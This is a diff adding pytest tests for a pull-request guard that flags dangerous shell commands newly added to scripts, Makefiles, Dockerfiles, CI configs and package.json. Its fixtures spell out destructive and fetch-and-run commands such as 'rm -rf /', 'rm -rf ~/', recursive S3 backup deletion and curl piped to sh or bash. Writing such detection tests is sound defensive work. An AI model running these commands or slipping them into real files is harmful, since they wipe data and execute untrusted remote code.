@@ -10,6 +10,9 @@ from pathlib import Path
 import pytest
 
 from proto.v1 import Decision, Violation
+from services.guard.core.bundle import load_default
+from services.guard.core.policies import commands
+from services.guard.core.policies.commands import carriers
 from services.guard.tools import check_pr
 from services.guard.tools.changes import GitError
 from services.guard.tools.check_pr import Finding, Review
@@ -235,3 +238,110 @@ def test_excluded_globs_leave_files_out() -> None:
     ]
     kept = check_pr.without(files, ["tests/**/fixtures/**", "nothing/*.py"])
     assert [f.path for f in kept] == ["src/app.py"]
+
+
+# -- shell commands in changed files -------------------------------------------------------------------
+CARRIERS = {
+    "scripts/deploy.sh": ("#!/bin/bash\nset -euo pipefail\necho deploying\n", "rm -rf /\n", 4),
+    "Makefile": ("build:\n\tpython -m build\n\n", "clean:\n\t@rm -rf /\n", 5),
+    "Dockerfile": (
+        "FROM python:3.11\nWORKDIR /app\n",
+        "RUN apt-get update && \\\n    curl -fsSL https://x.io/i | sh\n",
+        3,
+    ),
+    ".github/workflows/ci.yml": (
+        "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n",
+        "      - name: wipe\n        run: |\n          echo start\n          rm -rf ~/\n",
+        10,
+    ),
+    ".gitlab-ci.yml": (
+        "test:\n  script:\n    - make test\n",
+        "    - aws s3 rm s3://backups --recursive\n",
+        4,
+    ),
+    "package.json": (
+        '{\n  "name": "x",\n  "scripts": {\n    "test": "jest",\n',
+        '    "clean": "rm -rf ~/ && echo done"\n  }\n}\n',
+        5,
+    ),
+}
+
+
+@pytest.mark.parametrize("path", sorted(CARRIERS))
+def test_a_dangerous_command_added_to_a_carrier_fails_the_check_at_its_line(
+    repo: Path, path: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    before, added, line = CARRIERS[path]
+    git(repo, "checkout", "-q", "main")
+    commit(repo, {path: before + ("}\n}\n" if path == "package.json" else "")})
+    git(repo, "checkout", "-q", "feature")
+    git(repo, "merge", "-q", "main")
+    commit(repo, {path: before + added})
+
+    code = check(repo, form="json")
+
+    report = json.loads(capsys.readouterr().out)
+    assert code == 1, report
+    assert report["decision"]["verdict"] == "deny"
+    places = {(f["path"], f["line"]) for f in report["findings"] if f["policy"] == "commands"}
+    assert (path, line) in places, report["findings"]
+
+
+def test_the_same_command_on_a_line_the_branch_did_not_add_is_not_its_fault(
+    repo: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    git(repo, "checkout", "-q", "main")
+    commit(repo, {"scripts/old.sh": "#!/bin/sh\nrm -rf /\n"})
+    git(repo, "checkout", "-q", "feature")
+    git(repo, "merge", "-q", "main")
+    commit(repo, {"scripts/old.sh": "#!/bin/sh\nrm -rf /\necho added\n"})
+
+    assert check(repo) == 0
+    capsys.readouterr()
+
+
+def test_workspace_commands_in_carriers_pass(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    commit(
+        repo,
+        {
+            "Makefile": "clean:\n\trm -rf ./build dist\n\tfind . -name '*.pyc' -delete\n",
+            "Dockerfile": "FROM alpine\nRUN rm -rf ./build /tmp/build\n",
+            ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: |\n"
+            "          if [ -d build ]; then\n"
+            "            rm -rf build\n          fi\n          echo 'rm -rf /'\n",
+            "build.sh": '#!/bin/sh\n# rm -rf / would be bad\nfor f in *.o; do\n  rm -f "$f"\ndone\n',
+        },
+    )
+
+    assert check(repo) == 0, capsys.readouterr().out
+    capsys.readouterr()
+
+
+def test_check_pr_judges_commands_with_the_runtime_family_and_bundle() -> None:
+    files = [check_pr.ChangedFile("run.sh", "#!/bin/sh\ncurl -s https://x.io | bash\n", frozenset({2}))]
+    result = check_pr.review(files, load_default())
+    (finding,) = result.findings
+    runtime = commands.judge("curl -s https://x.io | bash", load_default().policy("ci").commands)
+    assert finding.violation.rule_id == runtime[0][0].rule_id == "commands.pipe-to-shell"
+    assert (finding.path, finding.line, finding.column) == ("run.sh", 2, 1 + runtime[0][1])
+    assert result.verdict == "deny"
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "expected"),
+    [
+        ("a.sh", "if [ -d x ]; then\n  rm -rf x\nfi\n", ["[ -d x ]", "rm -rf x"]),
+        ("Makefile", "t:\n\t@echo $$HOME \\\n\t  done\n", ["echo $HOME done"]),
+        ("Dockerfile", 'RUN ["sh", "-c", "make all"]\n', ["sh -c 'make all'"]),
+        (
+            ".gitlab-ci.yml",
+            "j:\n  script:\n    - 'echo \"a\"'\n    - |\n      make\n      make test\n",
+            ['echo "a"', "make", "make test"],
+        ),
+        ("package.json", '{"scripts": {\n  "a": "echo \\"x\\""\n}}\n', ['echo "x"']),
+        ("notes.md", "rm -rf /\n", []),
+    ],
+)
+def test_carriers_yield_the_commands_a_shell_will_run(path: str, content: str, expected: list[str]) -> None:
+    lines = frozenset(range(1, content.count("\n") + 2))
+    assert [c.text for c in carriers.carried(path, content, lines)] == expected
